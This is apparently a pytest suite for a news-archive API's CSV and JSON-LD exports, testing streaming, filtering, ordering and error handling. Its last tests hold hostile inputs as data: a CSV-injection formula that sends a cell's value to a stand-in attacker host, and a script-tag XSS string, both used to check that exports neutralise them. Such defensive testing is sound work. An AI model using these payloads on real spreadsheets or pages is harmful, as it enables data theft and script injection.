"""Exports: CSV of every list (the whole filtered set, streamed) and detail,
schema.org JSON-LD of articles."""

import csv
import io
import json

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from articles import record_versions
from articles.models import Article, Figure, Outlet, PersonMention

pytestmark = pytest.mark.django_db

RESOURCES = ["articles", "people", "events", "figures", "outlets", "person-mentions", "event-mentions"]


def export(api, path, **params):
    response = api.get(path, params)
    assert response.status_code == 200, response.content
    assert response.streaming, "a list export is streamed, not built in memory"
    return response, b"".join(response.streaming_content).decode()


def rows(api, resource, **params):
    response, text = export(api, f"/api/v1/{resource}/", format="csv", **params)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("resource", RESOURCES)
def test_csv_holds_the_whole_filtered_set_not_a_page(api, volume, resource):
    listed = api.get(f"/api/v1/{resource}/", {"page_size": 1}).json()
    assert listed["count"] > 1
    exported = rows(api, resource, page_size=1, page=2)
    assert len(exported) == listed["count"]
    everything = []
    for page in range(1, listed["count"] // 100 + 2):
        everything += [
            r["id"] for r in api.get(f"/api/v1/{resource}/", {"page_size": 100, "page": page}).json()["results"]
        ]
    assert [int(row["id"]) for row in exported] == everything  # same records, same order


def test_csv_holds_exactly_the_filtered_count(api, volume):
    filters = {"outlet": "granma", "published_after": "2025-01-10", "person": "hugo-chavez"}
    count = api.get("/api/v1/articles/", filters).json()["count"]
    exported = rows(api, "articles", **filters)
    assert 0 < count == len(exported) < Article.objects.count()
    assert {row["outlet"] for row in exported} == {"Granma"}


def test_csv_of_a_search_keeps_its_order(api, volume):
    ranked = [r["id"] for r in api.get("/api/v1/articles/", {"search": "havana chavez"}).json()["results"]]
    assert [int(row["id"]) for row in rows(api, "articles", search="havana chavez")] == ranked


def test_chunks_keep_every_row_with_its_own_relations(api, volume, monkeypatch):
    from articles.api import exports

    whole = rows(api, "articles")
    monkeypatch.setattr(exports, "CHUNK", 7)
    assert rows(api, "articles") == whole
    assert {row["authors"] for row in whole if row["title"].startswith("Report")} == {"Ana Pérez"}


def test_related_records_appear_by_name(api, sample):
    article = {row["title"]: row for row in rows(api, "articles")}["Chávez in Havana"]
    assert (article["outlet"], article["authors"], article["is_syndicated"]) == ("Granma", "Ana Pérez", "false")
    copy = {row["title"]: row for row in rows(api, "articles")}["Chávez in Havana (copy)"]
    assert (copy["outlet"], copy["original"]) == ("", "Chávez in Havana")
    figure = {row["metric"]: row for row in rows(api, "figures")}["cubans-killed-3-january"]
    assert (figure["article"], figure["outlet"], figure["event"]) == (
        "After the attack",
        "teleSUR English",
        "US attack on Caracas",
    )
    assert figure["value"] == "32"
    event = {row["slug"]: row for row in rows(api, "events")}["havana-1994"]
    assert event["participants"] == "Fidel Castro; Hugo Chávez"


def test_fields_choose_the_columns_and_urls_carry_no_format(api, sample):
    response, text = export(api, "/api/v1/people/", format="csv", fields="url,slug")
    assert text.splitlines()[0] == "url,slug"
    assert "format=" not in text
    assert response["Content-Disposition"] == 'attachment; filename="people.csv"'


def test_an_empty_set_still_has_its_header(api, sample):
    _, text = export(api, "/api/v1/articles/", format="csv", search="nothingmatchesthis")
    assert text.splitlines() == [text.splitlines()[0]]
    assert text.startswith("id,url,title,")


def test_accept_header_selects_csv(api, sample):
    response = api.get("/api/v1/outlets/", HTTP_ACCEPT="text/csv")
    assert response["Content-Type"].startswith("text/csv")


def test_queries_do_not_grow_with_the_rows(api, volume):
    def queries(**params):
        with CaptureQueriesContext(connection) as captured:
            export(api, "/api/v1/articles/", format="csv", **params)
        return len(captured)

    assert queries(published_after="2025-01-29") == queries(published_after="2000-01-01")  # 4 rows and 32


def test_detail_exports_one_row(api, sample):
    response = api.get("/api/v1/outlets/granma/", {"format": "csv"})
    assert response.status_code == 200
    (row,) = csv.DictReader(io.StringIO(response.content.decode()))
    assert (row["slug"], row["article_count"]) == ("granma", "1")


def test_errors_stay_json(api, sample):
    for params in ({"format": "csv", "published_after": "soon"}, {"format": "jsonld", "outlet_id": "nowhere"}):
        response = api.get("/api/v1/articles/", params)
        assert response.status_code == 400
        assert response["Content-Type"] == "application/json"
        assert set(response.json()) == {next(k for k in params if k != "format")}
    response = api.get("/api/v1/articles/999999/", {"format": "csv"})
    assert response.status_code == 404 and response.json()["detail"]


def test_an_unknown_format_is_a_400_naming_it(api, sample):
    response = api.get("/api/v1/articles/", {"format": "xml"})
    assert response.status_code == 400
    assert "xml" in response.json()["format"][0]
    assert api.get("/api/v1/people/", {"format": "jsonld"}).status_code == 400  # articles only


def test_writes_answer_json_only(editor_client, sample):
    response = editor_client.post("/api/v1/outlets/", {"name": "X", "slug": "x"}, HTTP_ACCEPT="text/csv")
    assert response.status_code == 406


# JSON-LD

SCHEMA_ORG = {
    "NewsArticle": {
        "@type",
        "@id",
        "url",
        "identifier",
        "headline",
        "description",
        "inLanguage",
        "wordCount",
        "articleBody",
        "datePublished",
        "author",
        "publisher",
        "mentions",
        "about",
        "isBasedOn",
    },
    "Person": {"@type", "@id", "url", "name", "alternateName", "description"},
    "Event": {"@type", "@id", "url", "name", "startDate", "endDate", "location", "description"},
    "NewsMediaOrganization": {"@type", "@id", "name", "url"},
    "Place": {"@type", "name"},
}


def nodes(value):
    if isinstance(value, dict):
        if "@type" in value:
            yield value
        for item in value.values():
            yield from nodes(item)
    elif isinstance(value, list):
        for item in value:
            yield from nodes(item)


def test_article_as_news_article(api, sample):
    granma = sample.articles["granma"]
    response = api.get(f"/api/v1/articles/{granma.pk}/", {"format": "jsonld"})
    assert response["Content-Type"] == "application/ld+json; charset=utf-8"
    doc = json.loads(response.content)
    assert doc["@context"] == "https://schema.org"
    assert (doc["@type"], doc["headline"], doc["datePublished"]) == ("NewsArticle", granma.title, "2026-01-16")
    assert doc["@id"] == f"http://testserver/api/v1/articles/{granma.pk}/"
    assert [a["name"] for a in doc["author"]] == ["Ana Pérez"]
    assert doc["publisher"] == {
        "@type": "NewsMediaOrganization",
        "@id": "http://testserver/api/v1/outlets/granma/",
        "name": "Granma",
    }
    assert [m["name"] for m in doc["mentions"]] == ["Hugo Chávez", "Fidel Castro"]
    about = {event["name"]: event for event in doc["about"]}
    assert about["Chávez meets Castro in Havana"]["startDate"] == "1994-12"  # month precision
    assert (about["PetroCaribe shipments"]["startDate"], about["PetroCaribe shipments"]["endDate"]) == ("2005", "2019")
    assert about["Chávez meets Castro in Havana"]["location"] == {"@type": "Place", "name": "Havana"}


def test_only_schema_org_terms(api, volume):
    _, text = export(api, "/api/v1/articles/", format="jsonld")
    doc = json.loads(text)
    assert set(doc) == {"@context", "@graph"}
    for node in nodes(doc["@graph"]):
        assert node["@type"] in SCHEMA_ORG, node["@type"]
        assert set(node) <= SCHEMA_ORG[node["@type"]], set(node) - SCHEMA_ORG[node["@type"]]


def test_jsonld_list_is_the_whole_filtered_set(api, volume):
    count = api.get("/api/v1/articles/", {"outlet": "telesur"}).json()["count"]
    response, text = export(api, "/api/v1/articles/", format="jsonld", outlet="telesur")
    graph = json.loads(text)["@graph"]
    assert len(graph) == count > 10
    assert {node["publisher"]["name"] for node in graph} == {"teleSUR English"}
    assert response["Content-Disposition"] == 'attachment; filename="articles.jsonld"'


def test_syndicated_copy_is_based_on_its_original(api, sample):
    copy = sample.articles["copy"]
    doc = api.get(f"/api/v1/articles/{copy.pk}/", {"format": "jsonld"}).json()
    assert doc["isBasedOn"]["@id"].endswith(f"/api/v1/articles/{sample.articles['granma'].pk}/")
    assert "publisher" not in doc and "datePublished" not in doc


def test_partial_dates_keep_their_precision(api, sample):
    telesur = sample.articles["telesur"]
    doc = api.get(f"/api/v1/articles/{telesur.pk}/", {"format": "jsonld"}).json()
    assert doc["datePublished"] == "2026-01-13T13:32"
    Article.objects.filter(pk=telesur.pk).update(published_precision="month", published_time=None)
    doc = api.get(f"/api/v1/articles/{telesur.pk}/", {"format": "jsonld"}).json()
    assert doc["datePublished"] == "2026-01"


@pytest.mark.parametrize(
    ("method", "path"),
    [("TRACE", "/api/v1/outlets/granma/"), ("DELETE", "/api/v1/outlets/"), ("PUT", "/api/v1/figures/compare/")],
)
def test_a_method_not_answered_is_a_405_whatever_the_format(editor_client, sample, method, path):
    # DRF negotiates the format before it looks for the handler; a 400 about
    # `format` would hide that the method is not allowed at all.
    response = editor_client.generic(method, f"{path}?format=csv")
    assert response.status_code == 405
    assert "Allow" in response.headers


@pytest.mark.parametrize(
    "params", [{"format": ""}, {"format": "csv", "page_size": "-5"}, {"format": "csv", "page": "x"}]
)
def test_an_empty_format_or_a_bad_page_parameter_of_an_export_is_a_400(api, sample, params):
    response = api.get("/api/v1/outlets/", params)
    assert response.status_code == 400
    assert list(response.json()) == [next(name for name in params if params[name] != "csv")]


def test_jsonld_loads_only_what_its_nodes_show(api, volume):
    """JSON-LD reads the mentions once, with their people; the list's author
    prefetch (`role = 'author'`) is never run, for a list or a detail."""
    mentions = PersonMention._meta.db_table
    article = Article.objects.order_by("pk").first()
    for path in ("/api/v1/articles/", f"/api/v1/articles/{article.pk}/"):
        with CaptureQueriesContext(connection) as queries:
            response = api.get(path, {"format": "jsonld"})
            body = b"".join(response.streaming_content) if response.streaming else response.content
        assert response.status_code == 200
        assert json.loads(body)["@context"] == "https://schema.org"
        on_mentions = [
            q["sql"]
            for q in queries.captured_queries
            if f'FROM "{mentions}"' in q["sql"] and not q["sql"].startswith(record_versions.SIGNATURE_MARK)
        ]
        assert len(on_mentions) == 1, on_mentions
        assert "'author'" not in on_mentions[0]


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://evil.example/?x="&A1)', "+1+2", "-2+3", "@SUM(A1)", "\tTab", "\rReturn"]
)
def test_csv_cells_that_a_spreadsheet_would_run_are_text(api, editor_client, sample, name):
    """OWASP's CSV injection: an editor's text never becomes a formula in a
    downloader's spreadsheet; the JSON answer keeps the value as written."""
    created = editor_client.post("/api/v1/outlets/", {"name": name, "slug": "hostile"}, format="json")
    assert created.status_code == 201, created.json()
    Outlet.objects.filter(slug="hostile").update(name=name)  # the API trims a leading tab; an import may not
    cells = {row["slug"]: row["name"] for row in rows(api, "outlets")}
    assert cells["hostile"] == "'" + name
    assert api.get("/api/v1/outlets/hostile/").json()["name"] == name


def test_csv_leaves_negative_numbers_as_numbers(api, sample):
    figure = sample.figures["dead"]
    Figure.objects.filter(pk=figure.pk).update(value=-3)
    cells = {row["id"]: row["value"] for row in rows(api, "figures")}
    assert cells[str(figure.pk)] == "-3"


def test_jsonld_cannot_close_the_script_block_it_is_embedded_in(api, sample):
    article = sample.articles["granma"]
    Article.objects.filter(pk=article.pk).update(title="</script><script>alert(1)</script> & more")
    for path in (f"/api/v1/articles/{article.pk}/", "/api/v1/articles/"):
        response = api.get(path, {"format": "jsonld"})
        text = (b"".join(response.streaming_content) if response.streaming else response.content).decode()
        assert "<" not in text and ">" not in text
        doc = json.loads(text)
        nodes = doc.get("@graph", [doc])
        assert "</script><script>alert(1)</script> & more" in {node["headline"] for node in nodes}
